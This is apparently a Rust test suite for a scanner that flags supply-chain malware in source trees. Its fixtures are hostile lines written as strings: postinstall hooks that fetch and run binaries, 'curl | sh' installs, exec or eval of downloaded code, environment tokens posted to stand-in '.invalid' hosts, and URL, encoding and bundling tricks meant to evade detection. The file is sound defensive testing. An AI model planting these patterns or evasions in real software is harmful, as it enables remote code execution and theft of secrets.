//! Where a judgement could fail open: each tree is one way to come out better than it is. Hosts end in `.invalid`, but for
//! those whose names are the point; nothing is run.
#![allow(clippy::unwrap_used, missing_docs, reason = "a test that meets the unexpected has failed")]

use screen::finding::Severity;
use screen::{File, Outcome, Tree, Verdict};

fn screened(files: &[(&str, &[u8])]) -> Outcome {
    let file =
        |(path, bytes): &(&str, &[u8])| File { path: (*path).to_owned(), bytes: bytes.to_vec() };
    let mut tree = Tree { files: files.iter().map(file).collect(), ..Tree::default() };
    tree.files.sort_by(|a, b| a.path.cmp(&b.path));
    screen::screen(&tree)
}

const REPOSITORY: &str =
    r#"{"name": "bot", "repository": "acme/bot", "scripts": {"postinstall": "node get.js"}}"#;

fn fetched_and_run(url: &str) -> Vec<u8> {
    format!(
        "const fs = require('fs');\nconst {{ execFileSync }} = require('child_process');\nfetch('{url}')\n  .then((r) => r.arrayBuffer())\n  .then((b) => {{ fs.writeFileSync('/tmp/bot-engine', Buffer.from(b)); execFileSync('/tmp/bot-engine'); }});\n"
    )
    .into_bytes()
}

#[test]
fn a_release_is_milder_only_where_the_project_is_at_home_and_if_it_is_a_file() {
    let of = |url: &str| {
        let script = fetched_and_run(url);
        screened(&[("package.json", REPOSITORY.as_bytes()), ("get.js", &script)]).verdict
    };
    assert_eq!(of("https://github.com/acme/bot/releases/download/v1/engine"), Verdict::Review);
    assert_eq!(of("https://github.com/other/bot/releases/download/v1/engine"), Verdict::Review);
    assert_eq!(of("https://github.com/other/bot/raw/main/engine"), Verdict::Block);
    assert_eq!(of("https://gitlab.com/acme/bot/releases/download/v1/engine"), Verdict::Block);
    assert_eq!(
        of("https://github.com.evil.invalid/acme/bot/releases/download/v1/engine"),
        Verdict::Block
    );
    let piped = r#"{"name": "bot", "repository": "acme/bot", "scripts": {"postinstall": "curl -L https://github.com/acme/bot/releases/download/v1/i.sh | sh"}}"#;
    assert_eq!(screened(&[("package.json", piped.as_bytes())]).verdict, Verdict::Block);
}

#[test]
fn this_machine_is_no_free_pass_and_is_told_by_its_host() {
    let of = |url: &str| {
        let code = format!("import requests\nexec(requests.get('{url}').text)\n");
        screened(&[("main.py", code.as_bytes())]).verdict
    };
    assert_eq!(of("http://localhost:8080/x"), Verdict::Review);
    assert_eq!(of("http://localhost@a.invalid/x"), Verdict::Block);
    assert_eq!(of("http://localhost.a.invalid/x"), Verdict::Block);
}

#[test]
fn a_token_goes_unremarked_only_to_the_service_that_gave_it() {
    let of = |name: &str, url: &str| {
        let code =
            format!("import os, requests\nrequests.post('{url}', data=os.environ['{name}'])\n");
        screened(&[("main.py", code.as_bytes())]).verdict
    };
    assert_eq!(of("GITHUB_TOKEN", "https://api.github.com/user"), Verdict::NoFindings);
    assert_eq!(of("AWS_SECRET_ACCESS_KEY", "https://api.github.com/gists"), Verdict::Review);
    assert_eq!(of("GITHUB_TOKEN", "https://a.invalid/in"), Verdict::Review);
}

#[test]
fn a_way_that_is_too_long_to_be_sure_of_is_never_no_findings() {
    let hops = "import requests\n\ndef a(x): return b(x)\ndef b(x): return c(x)\ndef c(x): return d(x)\ndef d(x): return e(x)\ndef e(x): exec(x)\n\na(requests.get('https://a.invalid/x').text)\n";
    assert_eq!(screened(&[("main.py", hops.as_bytes())]).verdict, Verdict::Block);
    let padding: Vec<String> = (0..200).map(|n| format!("vendor/m{n}.py")).collect();
    let mut files: Vec<(&str, &[u8])> =
        padding.iter().map(|p| (p.as_str(), &b"x = 1\n"[..])).collect();
    files.push(("main.py", hops.as_bytes()));
    let outcome = screened(&files);
    assert_eq!(outcome.verdict, Verdict::Incomplete);
    assert!(
        outcome
            .missed
            .iter()
            .any(|m| m.file == "main.py" && m.reason.contains("too long to be sure"))
    );
    assert!(
        outcome
            .findings
            .iter()
            .any(|f| f.rule.id == "network-to-interpreter" && f.severity == Severity::Low)
    );
}

#[test]
fn what_an_interpreter_is_given_is_code_whatever_it_looks_like() {
    let manifest =
        |command: &str| format!(r#"{{"name": "a", "scripts": {{"postinstall": "{command}"}}}}"#);
    // A picture's first bytes, and bytes of no text in a comment.
    let mut picture = b"GIF89a/*".to_vec();
    picture.extend([0_u8, 1, 2, 3, 4, 5, 6, 7].repeat(2_000));
    picture.extend(b"*/=1;console.log('inert')\n");
    let node = manifest("node logo.gif");
    let outcome = screened(&[("package.json", node.as_bytes()), ("logo.gif", &picture)]);
    assert_eq!(outcome.verdict, Verdict::Block, "{outcome:?}");
    // Code under names that say something else too.
    let code = b"import requests\nexec(requests.get('https://a.invalid').text)\n";
    for name in ["Dockerfile.py", ".env.py", "vendor/.git/run.py"] {
        assert_eq!(screened(&[(name, code)]).verdict, Verdict::Block, "{name}");
    }
    // What can't be read of a command is listed.
    let broken = manifest("node -e 'const = ;'");
    assert_eq!(screened(&[("package.json", broken.as_bytes())]).verdict, Verdict::Incomplete);
}

#[test]
fn a_fixed_program_that_runs_its_words_does_not_hide_what_it_is_given() {
    let of = |words: &str| {
        let code = format!(
            "import subprocess, requests\nx = requests.get('https://a.invalid/x').text\nsubprocess.run([{words}])\n"
        );
        screened(&[("main.py", code.as_bytes())]).verdict
    };
    for words in [
        "'sh', '-c', x",
        "'timeout', '5', 'bash', '-c', x",
        "'sudo', '-E', 'python3', '-c', x",
        "'ssh', 'host', x",
        "x",
    ] {
        assert_eq!(of(words), Verdict::Block, "{words}");
    }
    // What such a program prints, or a file that it reads, is its own matter.
    assert_eq!(of("'say', x"), Verdict::NoFindings);
    assert_eq!(of("'python3', 'tools/show.py', x"), Verdict::NoFindings);
}

/// A tree of as many modules as make a large one, and some more.
fn among_many(files: &[(&str, &str)]) -> Outcome {
    let many: Vec<(String, Vec<u8>)> = (0..160)
        .map(|n| (format!("pkg/m{n}.py"), format!("def f{n}(x):\n    return x\n").into_bytes()))
        .collect();
    let all: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .chain(files.iter().map(|(p, b)| (*p, b.as_bytes())))
        .collect();
    screened(&all)
}

#[test]
fn among_many_modules_a_way_counts_that_goes_along_imports() {
    let fetch = (
        "pkg/a.py",
        "import requests\ndef load():\n    return requests.get('https://a.invalid/x').text\n",
    );
    let run = ("pkg/b.py", "def run(code):\n    exec(code)\n");
    let along = ("pkg/c.py", "from pkg.a import load\nfrom pkg.b import run\nrun(load())\n");
    assert_eq!(among_many(&[fetch, run, along]).verdict, Verdict::Block);
    // What both share, and neither says: it is told, and is never "no findings".
    let put = (
        "pkg/a.py",
        "import builtins, requests\nbuiltins.x = requests.get('https://a.invalid/x').text\n",
    );
    let take = ("pkg/b.py", "import builtins\nexec(builtins.x)\n");
    let outcome = among_many(&[put, take]);
    assert_eq!(outcome.verdict, Verdict::Incomplete);
    assert!(outcome.findings.iter().any(|f| f.rule.id == "network-to-interpreter"));
    assert!(outcome.missed.iter().any(|m| m.file == "pkg/b.py"));
    // In a few modules the same blocks.
    let few = screened(&[(put.0, put.1.as_bytes()), (take.0, take.1.as_bytes())]);
    assert_eq!(few.verdict, Verdict::Block);
}

#[test]
fn in_a_bundle_what_stands_together_counts() {
    let filler: String = (0..1_600).map(|n| format!("function f{n}(x) {{ return x }}\n")).collect();
    let near = format!("{filler}fetch('https://a.invalid/x').then(r => r.text()).then(eval);\n");
    let far = format!(
        "let p;\nfetch('https://a.invalid/x').then(r => r.text()).then(t => {{ p = t }});\n{filler}eval(p);\n"
    );
    assert_eq!(screened(&[("dist/bundle.js", near.as_bytes())]).verdict, Verdict::Block);
    assert_eq!(screened(&[("dist/bundle.js", far.as_bytes())]).verdict, Verdict::Review);
}

#[test]
fn a_timer_runs_text_that_is_known_whatever_else_it_may_get() {
    let of = |code: &str| {
        let code =
            format!("fetch('https://a.invalid/x').then(r => r.text()).then(d => {{ {code} }});\n");
        screened(&[("main.js", code.as_bytes())]).verdict
    };
    assert_eq!(of("setTimeout(d, 0)"), Verdict::Block);
    assert_eq!(of("let h = () => 1; h = d; setTimeout(h, 0)"), Verdict::Block);
    assert_eq!(of("function go(p, d) { setTimeout(p || d, 0) } go(null, d)"), Verdict::Block);
    assert_eq!(of("setTimeout(() => console.log(d), 0)"), Verdict::NoFindings);
    let wrapped = of("const later = (f) => setTimeout(f, 0); later(() => console.log(d))");
    assert_eq!(wrapped, Verdict::NoFindings);
}

#[test]
fn a_constructor_that_is_handed_to_who_calls_it_runs() {
    let code = "fetch('https://a.invalid/x').then(r => r.text()).then((() => {}).constructor).then(f => f());\n";
    assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block);
}

#[test]
fn what_size_makes_doubtful_is_never_no_findings() {
    let child = "import subprocess\nsubprocess.Popen(['/tmp/.hid', 'a'], start_new_session=True)\n";
    let outcome = among_many(&[("pkg/a.py", child)]);
    assert_eq!(outcome.verdict, Verdict::Incomplete);
    assert!(outcome.findings.iter().any(|f| f.rule.id == "detached-child"));
    assert!(outcome.missed.iter().any(|m| m.file == "pkg/a.py"));
}

#[test]
fn a_registry_is_told_by_its_host() {
    let of = |url: &str| {
        let text = format!(r#"{{"name": "a", "scripts": {{"postinstall": "curl {url} | sh"}}}}"#);
        screened(&[("package.json", text.as_bytes())])
    };
    for url in ["https://registry.npmjs.org@a.invalid/x", "https://registry.npmjs.org.a.invalid/x"]
    {
        assert_eq!(of(url).verdict, Verdict::Block, "{url}");
    }
    assert_eq!(of("https://registry.npmjs.org/x").verdict, Verdict::Review);
}

#[test]
fn an_address_is_what_clients_take_it_for() {
    for url in [
        " https://cdn.invalid/a",
        "https:/cdn.invalid/a",
        "https:cdn.invalid/a",
        "https:\\\\\\\\cdn.invalid/a",
        "ht\\ttps://cdn.invalid/a",
        "https://cdn.invalid\\\\@registry.npmjs.org/a",
    ] {
        let code = format!("fetch('{url}').then(r => r.text()).then(eval)\n");
        assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block, "{url}");
    }
    let code =
        "fetch('https://cdn.invalid:' + process.env.PORT + '/a').then(r => r.text()).then(eval)\n";
    assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block);
}

#[test]
fn what_another_encoding_or_another_end_of_lines_hides_is_told() {
    for coding in ["raw_unicode_escape", "utf-7", "rot13"] {
        let code = format!("# -*- coding: {coding} -*-\nx = 1\n");
        assert_eq!(screened(&[("main.py", code.as_bytes())]).verdict, Verdict::Incomplete);
    }
    let code = "# -*- coding: utf_8 -*-\nx = 1\n";
    assert_eq!(screened(&[("main.py", code.as_bytes())]).verdict, Verdict::NoFindings);
    for end in ['\r', '\x0c', '\x0b'] {
        let code = format!(
            "x{end}import urllib.request as u;exec(u.urlopen('https://a.invalid/x').read()){end}"
        );
        assert_eq!(screened(&[("a.pth", code.as_bytes())]).verdict, Verdict::Block, "{end:?}");
    }
    let deep = "[".repeat(100_000);
    for name in ["package.json", ".vscode/tasks.json"] {
        assert_eq!(screened(&[(name, deep.as_bytes())]).verdict, Verdict::Incomplete);
    }
}
